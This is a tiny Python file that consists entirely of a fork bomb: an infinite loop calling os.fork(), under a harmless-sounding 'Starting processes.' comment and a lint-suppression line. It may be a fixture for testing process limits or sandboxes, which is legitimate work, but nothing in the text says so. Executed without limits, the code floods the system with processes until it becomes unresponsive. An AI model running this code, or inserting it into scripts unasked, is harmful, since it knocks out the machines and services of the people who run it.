# ruff: noqa
# Starting processes.
import os

while True:
    os.fork()
